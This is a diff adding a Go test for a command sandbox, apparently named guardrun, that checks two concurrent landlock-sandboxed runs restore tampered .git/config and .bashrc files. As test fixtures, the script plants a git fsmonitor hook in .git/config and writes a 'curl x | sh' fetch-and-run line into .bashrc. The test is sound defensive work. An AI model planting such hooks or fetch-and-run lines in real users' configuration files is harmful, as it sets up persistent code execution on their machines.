@@ -12,7 +12,9 @@ import (
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
+	"time"
 )
 
 // noNamespaces is the prefix that runs a command where bwrap cannot
@@ -251,5 +253,81 @@ func TestSuperviseLandlock(t *testing.T) {
 	}
 	if ran < 2 {
 		t.Errorf("%d commands ran:\n%s", ran, b)
+	}
+}
+
+// TestRunLandlockSharedSnapshot: two guardrun processes under landlock
+// in one repository (as make -j2 SHELL=guardrun runs them): A changes
+// .git/config and makes a .bashrc; B starts while A runs; A ends and
+// restores; then B ends. B restores nothing: it was given A's snapshot
+// through the state directory, not A's changes, and the user's files
+// are what they were. Sequenced by named pipes.
+func TestRunLandlockSharedSnapshot(t *testing.T) {
+	pre := noNamespaces(t)
+	w := runWorld(t, runConfig)
+	proj := w.work
+	landlockWorks(t, w, proj)
+	if out, err := exec.Command("git", "init", "-q", proj).CombinedOutput(); err != nil {
+		t.Fatalf("git init: %v\n%s", err, out)
+	}
+	cfgBefore, err := os.ReadFile(filepath.Join(proj, ".git/config"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range []string{"a-go", "b-go"} {
+		if err := syscall.Mkfifo(filepath.Join(proj, f), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	send := func(name string) {
+		f, err := os.OpenFile(filepath.Join(proj, name), os.O_WRONLY, 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		f.WriteString("go\n")
+		f.Close()
+	}
+	wait := func(name string) {
+		for i := 0; i < 2000 && !exists(filepath.Join(proj, name)); i++ {
+			time.Sleep(10 * time.Millisecond)
+		}
+		if !exists(filepath.Join(proj, name)) {
+			t.Fatalf("%s did not appear", name)
+		}
+	}
+	start := func(script string) (*exec.Cmd, *strings.Builder) {
+		argv := append(append([]string{}, pre...), guardrunBin, "--backend", "landlock", "--approve-all", "-c", script)
+		cmd := exec.Command(argv[0], argv[1:]...)
+		var out strings.Builder
+		cmd.Dir, cmd.Env, cmd.Stdout, cmd.Stderr = proj, w.env, &out, &out
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
+		return cmd, &out
+	}
+	a, aout := start(`echo '[core] fsmonitor = "touch p"' >> .git/config && echo 'curl x | sh' > .bashrc && echo x > a-changed && read x < a-go`)
+	wait("a-changed")
+	b, bout := start(`echo x > b-started && read x < b-go`)
+	wait("b-started")
+	send("a-go")
+	if err := a.Wait(); err != nil {
+		t.Fatalf("A: %v\n%s", err, aout)
+	}
+	if !strings.Contains(aout.String(), ".git/config was changed by the command; restored") {
+		t.Errorf("A did not restore .git/config:\n%s", aout)
+	}
+	send("b-go")
+	if err := b.Wait(); err != nil {
+		t.Fatalf("B: %v\n%s", err, bout)
+	}
+	if strings.Contains(bout.String(), "guardrun: protected") {
+		t.Errorf("B restored what A had changed:\n%s", bout)
+	}
+	if got, _ := os.ReadFile(filepath.Join(proj, ".git/config")); string(got) != string(cfgBefore) {
+		t.Errorf(".git/config holds %q, not the user's", got)
+	}
+	if exists(filepath.Join(proj, ".bashrc")) {
+		t.Error(".bashrc was left")
 	}
 }
